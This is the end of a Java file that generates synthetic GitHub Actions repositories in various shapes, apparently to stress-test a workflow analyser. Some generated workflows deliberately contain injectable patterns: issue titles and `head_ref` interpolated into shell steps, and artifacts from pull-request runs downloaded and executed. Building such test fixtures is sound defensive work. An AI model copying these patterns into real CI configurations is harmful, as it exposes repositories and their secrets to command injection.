    }
    return one(out.toString());
  }

  private static Map<String, String> dependabot(int n) {
    return Map.of(
        ".github/dependabot.yml",
        many(
            n,
            "version: 2\nupdates:\n",
            i ->
                ("- package-ecosystem: npm\n  directory: /d%d\n  schedule:\n    interval: daily\n")
                    .formatted(i)),
        WORKFLOWS + "one.yml",
        BUILD + "    - run: make\n");
  }

  // ---- several files

  private static Map<String, String> each(int n, BiConsumer<Integer, Map<String, String>> file) {
    Map<String, String> out = new LinkedHashMap<>();
    for (int i = 0; i < n; i++) {
      file.accept(i, out);
    }
    return out;
  }

  /// Ordinary workflows of some length, no two alike.
  private static Map<String, String> workflows(int n) {
    return each(n, (i, out) -> out.put(WORKFLOWS + i + ".yml", ordinary(i)));
  }

  private static String ordinary(int i) {
    return """
    name: build %d
    on:
      push:
        branches: [main]
      pull_request:
    permissions:
      contents: read
    env:
      LEVEL: "%d"
    jobs:
      test:
        runs-on: ubuntu-24.04
        strategy:
          matrix:
            java: [21, 25]
        steps:
        - uses: actions/checkout@v4
        - uses: actions/setup-java@v4
          with:
            java-version: ${{ matrix.java }}
            distribution: temurin
            cache: maven
        - run: mvn -B verify -Dlevel=$LEVEL
        - name: Count
          if: github.event_name == 'pull_request'
          run: |
            set -euo pipefail
            for report in target/surefire-reports/*.xml; do
              grep -c '<testcase' "$report" >> counts%d.txt
            done
            echo "branch ${{ github.head_ref }}" >> "$GITHUB_STEP_SUMMARY"
      publish:
        needs: test
        if: github.ref == 'refs/heads/main'
        runs-on: ubuntu-24.04
        permissions:
          packages: write
        steps:
        - uses: actions/checkout@v4
        - run: docker build -t registry.example/app:%d . && docker push registry.example/app:%d
          env:
            TOKEN: ${{ secrets.REGISTRY_TOKEN }}
    """
        .formatted(i, i, i, i, i);
  }

  /// Each workflow calls the next one `width` times.
  private static Map<String, String> calls(int n, int width) {
    return each(
        n,
        (i, out) -> {
          StringBuilder text =
              new StringBuilder(
                  """
                  on:
                    issues:
                    workflow_call:
                      inputs:
                        v:
                          type: string
                  jobs:
                    own:
                      runs-on: ubuntu-24.04
                      steps:
                      - run: echo ${{ inputs.v }}
                  """);
          for (int w = 0; i + 1 < n && w < width; w++) {
            text.append(
                """
                  c%d:
                    uses: ./.github/workflows/%d.yml
                    with:
                      v: ${{ github.event.issue.title }}
                """
                    .formatted(w, i + 1));
          }
          out.put(WORKFLOWS + i + ".yml", text.toString());
        });
  }

  /// Many workflows call one.
  private static Map<String, String> callers(int n) {
    Map<String, String> out =
        each(
            n,
            (i, files) ->
                files.put(
                    WORKFLOWS + i + ".yml",
                    HEAD
                        + "  c:\n    uses: ./.github/workflows/called.yml\n    with:\n      v: ${{"
                        + " github.event.issue.title }}\n"));
    out.put(
        WORKFLOWS + "called.yml",
        "on:\n  workflow_call:\n    inputs:\n      v:\n        type: string\njobs:\n  own:\n   "
            + " runs-on: ubuntu-24.04\n    steps:\n    - run: echo ${{ inputs.v }}\n");
    return out;
  }

  /// Many workflows call one of many steps.
  private static Map<String, String> callersOfMany(int n) {
    Map<String, String> out = new LinkedHashMap<>(callers(n));
    out.put(
        WORKFLOWS + "called.yml",
        many(
            n,
            "on:\n  workflow_call:\n    inputs:\n      v:\n        type: string\n" + EVENTLESS,
            i -> "    - run: echo ${{ inputs.v }}\n"));
    return out;
  }

  /// Each composite action uses the next one `width` times.
  private static Map<String, String> actions(int n, int width) {
    Map<String, String> out =
        each(
            n,
            (i, files) -> {
              StringBuilder text =
                  new StringBuilder(
                      "name: a\ndescription: a\ninputs:\n  v:\n    description: v\nruns:\n"
                          + "  using: composite\n  steps:\n  - run: echo ${{ inputs.v }}\n"
                          + "    shell: bash\n");
              for (int w = 0; i + 1 < n && w < width; w++) {
                text.append(
                    "  - uses: ./.github/actions/a%d\n    with:\n      v: ${{ inputs.v }}\n"
                        .formatted(i + 1));
              }
              files.put(".github/actions/a" + i + "/action.yml", text.toString());
            });
    out.put(WORKFLOWS + "one.yml", BUILD + caller("a0"));
    return out;
  }

  private static String caller(String action) {
    return "    - uses: ./.github/actions/%s\n      with:\n        v: ${{ github.event.issue.title }}\n"
        .formatted(action);
  }

  /// Many steps use one action of many steps.
  private static Map<String, String> actionCallers(int n) {
    Map<String, String> out = new LinkedHashMap<>();
    out.put(
        ".github/actions/a/action.yml",
        many(
            n,
            "name: a\ndescription: a\nruns:\n  using: composite\n  steps:\n",
            i -> "  - run: echo %d\n    shell: bash\n".formatted(i)));
    out.put(WORKFLOWS + "one.yml", many(n, BUILD, _ -> caller("a")));
    return out;
  }

  private static Map<String, String> waiting(int n) {
    return each(
        n,
        (i, out) ->
            out.put(
                WORKFLOWS + i + ".yml",
                "name: w%d\non:\n  workflow_run:\n    workflows: [w%d]\njobs:\n  j:\n%s"
                    .formatted(i, i - 1, RUN)));
  }

  /// All have one name, and all wait for it.
  private static Map<String, String> waitingForAll(int n) {
    return each(
        n,
        (i, out) ->
            out.put(
                WORKFLOWS + i + ".yml",
                "name: w\non:\n  issues:\n  workflow_run:\n    workflows: [w]\njobs:\n  j:\n"
                    + RUN));
  }

  private static Map<String, String> artifacts(int n) {
    return each(
        n,
        (i, out) -> {
          out.put(
              WORKFLOWS + "up" + i + ".yml",
              ("name: up%d\non: pull_request\njobs:\n  j:\n    runs-on: ubuntu-24.04\n    steps:\n"
                      + "    - uses: actions/upload-artifact@v4\n      with:\n        name: a%d\n")
                  .formatted(i, i));
          out.put(
              WORKFLOWS + "down" + i + ".yml",
              ("name: down%d\non:\n  workflow_run:\n    workflows: [up0, up%d]\njobs:\n  j:\n"
                      + "    runs-on: ubuntu-24.04\n    steps:\n"
                      + "    - uses: actions/download-artifact@v4\n      with:\n        name: a%d\n"
                      + "        run-id: ${{ github.event.workflow_run.id }}\n    - run: ./build\n")
                  .formatted(i, i, i));
        });
  }

  // ----

  /// Writes a repository of a shape and size into a directory.
  static void write(Shape shape, int size, Path root) throws IOException {
    for (Map.Entry<String, String> file : shape.make().apply(size).entrySet()) {
      Path path = root.resolve(file.getKey());
      Files.createDirectories(path.getParent());
      Files.writeString(path, file.getValue(), UTF_8);
    }
  }

  public static void main(String... args) throws IOException {
    if (args.length != 3 || !ALL.containsKey(args[0])) {
      ALL.forEach(
          (name, shape) ->
              System.out.println(String.format(Locale.ROOT, "%-28s %d", name, shape.start())));
      return;
    }
    write(ALL.get(args[0]), Integer.parseInt(args[1]), Path.of(args[2]));
  }
}
